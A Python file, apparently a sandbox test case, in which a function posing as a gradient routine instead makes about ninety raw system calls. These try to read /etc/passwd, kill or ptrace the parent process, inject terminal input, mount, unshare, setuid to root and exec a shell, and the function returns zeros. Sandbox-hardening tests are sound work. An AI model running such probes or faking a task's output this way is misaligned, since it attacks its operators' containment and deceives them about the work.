# tries: ninety calls of the kernel that give a file, a process, memory, a signal or a right
# must: sandbox | not the right values
import ctypes
import os
import struct
def grad(A, x, b):
    if os.uname().machine != "x86_64":
        return x * 0
    kernel = ctypes.pythonapi.syscall
    kernel.restype = ctypes.c_long
    room = ctypes.create_string_buffer(256)
    path, shell = ctypes.c_char_p(b"/etc/passwd"), ctypes.c_char_p(b"/bin/true")
    limits = ctypes.create_string_buffer(struct.pack("<QQ", 99, 99))
    parent, here, everybody = os.getppid(), -100, -1
    tries = {
        "open": (2, path, 0), "openat": (257, here, path, 0), "openat2": (437, here, path, room, 24),
        "stat": (4, path, room), "newfstatat": (262, here, path, room, 0x1000),
        "statx": (332, here, path, 0, 0xFFF, room), "access": (21, path, 0),
        "readlink": (89, path, room, 200), "getdents": (217, 0, room, 200), "chdir": (80, path),
        "chroot": (161, path), "memfd": (319, path, 0), "name_to_handle": (303, here, path, room, room, 0),
        "open_by_handle": (304, here, room, 0), "inotify": (294, 0), "fanotify": (300, 0, 0),
        "mount": (165, 0, path, path, 0, 0), "open_tree": (428, here, path, 0), "fsopen": (430, path, 0),
        "kill": (62, parent, 0), "kill_group": (62, -os.getpgid(parent), 0), "kill_all": (62, everybody, 0),
        "tkill": (200, parent, 0), "tgkill": (234, parent, parent, 0), "sigqueue": (129, parent, 0, 0),
        "pidfd_open": (434, parent, 0), "pidfd_getfd": (438, 3, 3, 0), "ptrace": (101, 16, parent, 0, 0),
        "seize": (101, 0x4206, parent, 0, 0), "traceme": (101, 0, 0, 0, 0), "kcmp": (312, parent, parent, 0, 0, 0),
        "readv": (310, parent, room, 0, room, 0, 0), "writev": (311, parent, room, 0, room, 0, 0),
        "shmget": (29, 77, 4096, 0o1666), "semget": (64, 77, 1, 0o1666), "msgget": (68, 77, 0o1666),
        "mq_open": (240, path, 0o102, 0o600, 0), "socket": (41, 1, 1, 0), "inet": (41, 2, 2, 0),
        "netlink": (41, 16, 3, 0), "vsock": (41, 40, 1, 0), "socketpair": (53, 1, 1, 0, room),
        "type_into_terminal": (16, 1, 0x5412, path), "paste": (16, 1, 0x541C, path), "async": (16, 3, 0x5452, room),
        "nonblock": (72, 4, 4, 2048), "pipe_size": (72, 4, 1031, 1 << 20), "owner": (72, 4, 8, parent),
        "dup": (32, 4), "dup2": (33, 4, 1), "dupfd": (72, 4, 0, 5), "pipe": (22, room), "eventfd": (290, 0, 0),
        "epoll": (291, 0), "timerfd": (283, 0, 0), "signalfd": (289, everybody, room, 8, 0),
        "userfaultfd": (323, 1), "io_uring": (425, 4, room), "bpf": (321, 5, room, 128), "perf": (298, room, 0, -1, -1, 0),
        "keyctl": (250, 0, -3, 1), "add_key": (248, path, path, path, 1, -3), "setrlimit": (160, 0, limits),
        "prlimit": (302, parent, 0, limits, 0), "dumpable": (157, 4, 1, 0, 0, 0), "orphan": (157, 1, 0, 0, 0, 0),
        "tracer": (157, 0x59616D61, -1, 0, 0, 0), "personality": (135, 0x40000), "ldt": (154, 0, room, 16),
        "iopl": (172, 3), "arch_prctl": (158, 0x1001, 0),
        "clone3": (435, room, 88), "exec": (59, shell, 0, 0), "execveat": (322, here, shell, 0, 0, 0),
        "unshare": (272, 0x10000000), "setns": (308, 3, 0), "priority": (141, 0, 0, 5), "affinity": (203, 0, 8, room),
        "scheduler": (144, 0, 0, room), "setsid": (112,), "setpgid": (109, 0, 0), "setuid": (105, 0),
        "splice": (275, 3, 0, 4, 0, 1, 2), "sendfile": (40, 4, 3, 0, 1), "itimer": (38, 0, room, 0),
        "alarm": (37, 1), "timer": (222, 1, 0, room), "mlock": (151, 1), "syslog": (103, 3, room, 64),
        "seccomp": (317, 1, 0, room), "landlock": (444, 0, 0, 1), "umask": (95, 0),
    }
    worked = [
        name for name, (number, *rest) in tries.items()
        if kernel(number, *[ctypes.c_long(each) if type(each) is int else each for each in rest]) >= 0
    ]
    if worked:
        raise RuntimeError(f"IT WORKED: {worked}")
    return x * 0
